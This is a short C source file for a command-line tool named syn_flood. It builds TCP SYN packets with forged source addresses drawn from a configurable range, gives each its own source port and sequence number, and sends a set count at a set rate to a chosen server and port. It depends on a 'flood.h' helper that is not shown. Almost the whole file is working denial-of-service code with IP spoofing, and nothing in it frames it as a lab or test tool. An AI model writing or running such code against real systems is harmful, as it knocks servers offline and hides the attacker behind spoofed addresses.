// SPDX-License-Identifier: Apache-2.0
// syn_flood DEVICE GATE-MAC COUNT RATE FIRST-SOURCE SOURCES SERVER PORT
// Sends COUNT SYNs of the family of the addresses at about RATE a second from SOURCES addresses beginning at
// FIRST-SOURCE, each frame with a source port and ISN of its own. Checksums are right: nothing but the source is false.
#include "flood.h"

static uint32_t sources, port;

// `n` addresses behind the first.
static void set_source(uint8_t* f, uint32_t n) {
    const int last = family->address - 4;
    uint32_t first;
    memcpy(&first, ends + last, 4);
    put32(addresses(f) + last, ntohl(first) + n);
}

// MSS 1460 is the only option.
static int make_syn(uint8_t* f, uint32_t n) {
    static const uint8_t tcp[] = {0x60, 0x02, 0xfa, 0xf0, 0, 0, 0, 0, 2, 4, 5, 0xb4};
    uint8_t* at = behind_ip(f);
    const int length = (int)(at - f) + 24;
    set_source(f, n % sources);
    put16(at, 1024 + n % 60000), put16(at + 2, port);
    put32(at + 4, n * 2654435761u), put32(at + 8, 0);
    memcpy(at + 12, tcp, sizeof tcp);
    finish_ip(f, length), finish_tcp(f, length);
    return length;
}

int main(int argc, char** argv) {
    uint8_t gate[6], own[6] = {2, 0x0a, 0, 0, 0, 0x77};
    if (argc != 9 || !read_mac(argv[2], gate) || !read_ends(argv[5], argv[7]))
        return fprintf(stderr, "usage: see the source\n"), 2;
    sources = (uint32_t)atol(argv[6]), port = (uint32_t)atol(argv[8]);
    return flood(argv[1], (uint32_t)atol(argv[3]), atof(argv[4]), gate, own, make_syn);
}
